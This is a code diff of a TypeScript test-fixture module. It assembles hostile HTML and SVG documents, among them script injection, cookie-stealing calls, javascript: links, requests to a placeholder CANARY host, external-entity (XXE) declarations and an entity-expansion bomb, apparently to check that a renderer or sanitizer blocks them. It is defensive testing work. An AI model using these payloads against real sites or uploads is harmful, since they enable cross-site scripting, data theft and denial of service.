@@ -19,8 +19,6 @@ const say = (what, value) => {
 const pwned = () => { try { top.pwned = 1 } catch {} try { parent.pwned = 1 } catch {} }
 </script>`
 
-const inScript = (code: string) => `${TELL}<script>${code}</script>`
-
 /** What a script tries to steal: each must return nothing. */
 const THEFTS: Record<string, string> = {
   'the cookie': "tell('cookie', () => document.cookie)",
@@ -174,97 +172,136 @@ export const NESTED_CALLS: readonly Hostile[] = ['srcdoc', 'src'].map((attribute
   return { name: attribute, source: `<!doctype html><iframe ${attribute}="${inner}"></iframe>` }
 })
 
+/** What leads elsewhere, or changes what may run or be loaded after it: each has a document of its own. */
+const ALONE = new Set([
+  'an own address',
+  'location.replace',
+  'location through a frame of its own',
+  'a form that sends itself',
+  'a popup',
+  'a popup of nothing, then elsewhere',
+  'the top address',
+  'the parent address',
+  'a link that presses itself',
+  'a link with a ping',
+  'a download',
+  'a peer connection',
+  'a report',
+  'a base address',
+  'the history',
+  'a dialog',
+  'a frame of our own page',
+  'a frame set',
+  'a refresh',
+  'a refresh to data',
+  'a refresh to a script',
+  'a base',
+  'a report by meta',
+  'an event of the body',
+  'a focus event',
+  'a script address',
+  'a form',
+  'a manifest of old',
+  'an animated address',
+  'a foreign refresh',
+  'a foreign form',
+  'a foreign base',
+  'a link of the whole',
+])
+
+/** One document of all that can be together in one: what it takes or requests identifies the attack. */
+function together(
+  kind: string,
+  cases: Record<string, string>,
+  documentOf: (parts: string[]) => string,
+): Hostile[] {
+  const shared = Object.keys(cases).filter((name) => !ALONE.has(name))
+  const alone = Object.keys(cases).filter((name) => ALONE.has(name))
+  return [shared, ...alone.map((name) => [name])].map((names) => ({
+    name: `${kind}: ${names.join(', ')}`,
+    source: documentOf(names.map((name) => cases[name]!)),
+  }))
+}
+
+const withMarkup = (parts: string[]) => `<!doctype html>${TELL}${parts.join('\n')}`
+const withScripts = (parts: string[]) =>
+  withMarkup(parts.map((code) => `<script>{ ${code} }</script>`))
+
 export const HOSTILE_HTML: readonly Hostile[] = [
-  ...Object.entries(MARKUP).map(([name, markup]) => ({
-    name: `markup: ${name}`,
-    source: `<!doctype html>${TELL}${markup}`,
-  })),
-  ...Object.entries(CALLS).map(([name, code]) => ({
-    name: `call: ${name}`,
-    source: `<!doctype html>${inScript(code)}`,
-  })),
-  ...Object.entries(THEFTS).map(([name, code]) => ({
-    name: `theft: ${name}`,
-    source: `<!doctype html>${inScript(code)}`,
-  })),
+  ...together('markup', MARKUP, withMarkup),
+  ...together('call', CALLS, withScripts),
+  ...together('theft', THEFTS, withScripts),
 ]
 
 const svg = (inner: string, root = '') =>
   `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" ${root}>${inner}<rect width="9" height="9"/></svg>`
 
-const SVGS: Record<string, string> = {
-  'a script': svg('<script>top.pwned = 1; fetch("CANARY/s")</script>'),
-  'a script with an address': svg('<script href="CANARY/s.js"/><script xlink:href="CANARY/t.js"/>'),
-  'an event of the root': svg('', 'onload="top.pwned=1" onclick="top.pwned=1"'),
-  'an event of a shape': svg(
+/** The content of a drawing. */
+const DRAWN: Record<string, string> = {
+  'a script': '<script>top.pwned = 1; fetch("CANARY/s")</script>',
+  'a script with an address': '<script href="CANARY/s.js"/><script xlink:href="CANARY/t.js"/>',
+  'an event of a shape':
     '<circle r="9" onload="top.pwned=1"/><image href="x:" onerror="top.pwned=1"/>',
-  ),
-  'an animation event': svg(
+  'an animation event':
     '<animate attributeName="x" dur="1s" onbegin="top.pwned=1"/><set attributeName="y" to="1" onend="top.pwned=1"/>',
-  ),
-  'an animated address': svg(
+  'an animated address':
     '<a><animate attributeName="href" values="javascript:top.pwned=1"/><text>x</text></a>',
-  ),
-  'an image from outside': svg(
+  'an image from outside':
     '<image href="CANARY/i.png" width="9" height="9"/><image xlink:href="CANARY/j.png"/>',
-  ),
-  'an svg image from outside': svg('<image href="CANARY/i.svg" width="9" height="9"/>'),
-  'a use from outside': svg('<use href="CANARY/u.svg#x"/><use xlink:href="CANARY/v.svg#x"/>'),
-  'a gradient and a filter from outside': svg(
+  'an svg image from outside': '<image href="CANARY/i.svg" width="9" height="9"/>',
+  'a use from outside': '<use href="CANARY/u.svg#x"/><use xlink:href="CANARY/v.svg#x"/>',
+  'a gradient and a filter from outside':
     '<rect fill="url(CANARY/g.svg#g)" filter="url(CANARY/f.svg#f)" mask="url(CANARY/m.svg#m)"/>',
-  ),
-  'an image filter': svg(
+  'an image filter':
     '<filter id="f"><feImage href="CANARY/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
-  ),
-  'a style sheet': svg(
-    '<style>@import url(CANARY/a.css); rect { fill: url(CANARY/b.svg#x) }</style>',
-  ),
-  'a font': svg(
+  'a style sheet': '<style>@import url(CANARY/a.css); rect { fill: url(CANARY/b.svg#x) }</style>',
+  'a font':
     '<style>@font-face { font-family: x; src: url(CANARY/f.woff2) } text { font-family: x }</style><text y="9">x</text>',
-  ),
+  'a foreign frame':
+    '<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="CANARY/frame"/></foreignObject>',
+  'a foreign script':
+    '<foreignObject width="99" height="99"><script xmlns="http://www.w3.org/1999/xhtml">top.pwned=1</script><img xmlns="http://www.w3.org/1999/xhtml" src="CANARY/f.png" onerror="top.pwned=1"/></foreignObject>',
+  'a foreign refresh':
+    '<foreignObject width="99" height="99"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=CANARY/r"/></foreignObject>',
+  'a foreign form':
+    '<foreignObject width="99" height="99"><form xmlns="http://www.w3.org/1999/xhtml" action="CANARY/f"><input autofocus="" onfocus="top.pwned=1"/></form></foreignObject>',
+  'a foreign base':
+    '<foreignObject width="99" height="99"><base xmlns="http://www.w3.org/1999/xhtml" href="CANARY/"/><img xmlns="http://www.w3.org/1999/xhtml" src="rel.png"/></foreignObject>',
+  'a handler element':
+    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">top.pwned=1</handler>',
+  'a link of the whole':
+    '<a href="javascript:top.pwned=1" target="_top"><rect width="40" height="40"/></a>',
+  'a view and a cursor':
+    '<cursor href="CANARY/c.cur"/><view id="v"/><rect cursor="url(CANARY/d.cur)"/>',
+  'a sound and a film':
+    '<audio xmlns="http://www.w3.org/1999/xhtml" src="CANARY/a.mp3" autoplay=""/><video xmlns="http://www.w3.org/1999/xhtml" src="CANARY/v.mp4" autoplay=""/>',
+}
+
+/** Whole files. */
+const DRAWINGS: Record<string, string> = {
+  'an event of the root': svg('', 'onload="top.pwned=1" onclick="top.pwned=1"'),
   'a linked style': `<?xml-stylesheet href="CANARY/x.css" type="text/css"?>${svg('')}`,
   'a transformation': `<?xml-stylesheet href="CANARY/x.xsl" type="text/xsl"?>${svg('')}`,
-  'a foreign frame': svg(
-    '<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="CANARY/frame"/></foreignObject>',
-  ),
-  'a foreign script': svg(
-    '<foreignObject width="99" height="99"><script xmlns="http://www.w3.org/1999/xhtml">top.pwned=1</script><img xmlns="http://www.w3.org/1999/xhtml" src="CANARY/f.png" onerror="top.pwned=1"/></foreignObject>',
-  ),
-  'a foreign refresh': svg(
-    '<foreignObject width="99" height="99"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=CANARY/r"/></foreignObject>',
-  ),
-  'a foreign form': svg(
-    '<foreignObject width="99" height="99"><form xmlns="http://www.w3.org/1999/xhtml" action="CANARY/f"><input autofocus="" onfocus="top.pwned=1"/></form></foreignObject>',
-  ),
-  'a foreign base': svg(
-    '<foreignObject width="99" height="99"><base xmlns="http://www.w3.org/1999/xhtml" href="CANARY/"/><img xmlns="http://www.w3.org/1999/xhtml" src="rel.png"/></foreignObject>',
-  ),
   'an outside entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "CANARY/entity">]>${svg('<text y="9">&x;</text>')}`,
   'an outside definition': `<!DOCTYPE svg SYSTEM "CANARY/svg.dtd">${svg('')}`,
   'a bomb of entities': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>${svg('<text>&e;&e;&e;</text>')}`,
   'a script by entity': `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>top.pwned=1</script>">]>${svg('&x;')}`,
-  'a handler element': svg(
-    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">top.pwned=1</handler>',
-  ),
-  'a link of the whole': svg(
-    '<a href="javascript:top.pwned=1" target="_top"><rect width="40" height="40"/></a>',
-  ),
-  'a view and a cursor': svg(
-    '<cursor href="CANARY/c.cur"/><view id="v"/><rect cursor="url(CANARY/d.cur)"/>',
-  ),
-  'a sound and a film': svg(
-    '<audio xmlns="http://www.w3.org/1999/xhtml" src="CANARY/a.mp3" autoplay=""/><video xmlns="http://www.w3.org/1999/xhtml" src="CANARY/v.mp4" autoplay=""/>',
-  ),
   'html that calls itself an image':
     '<svg><script>top.pwned=1</script><img src="CANARY/h.png" onerror="top.pwned=1"></svg>',
   'a namespace of its own':
     '<svg xmlns="http://www.w3.org/1999/xhtml"><script>top.pwned=1</script><img src="CANARY/n.png"/></svg>',
 }
 
-export const HOSTILE_SVG: readonly Hostile[] = Object.entries(SVGS).map(([name, source]) => ({
-  name,
-  source,
-}))
+export const HOSTILE_SVG: readonly Hostile[] = [
+  ...together('drawn', DRAWN, (parts) => svg(parts.join(''))),
+  ...Object.entries(DRAWINGS).map(([name, source]) => ({ name, source })),
+]
+
+/** How many attacks the documents above hold. */
+export const HOSTILE_CASES = [MARKUP, CALLS, THEFTS, DRAWN, DRAWINGS].reduce(
+  (sum, cases) => sum + Object.keys(cases).length,
+  0,
+)
 
 /** Texts that people may enter as names, tags, descriptions and searches. A name cannot contain a slash. */
 export const HOSTILE_TEXTS: readonly string[] = [
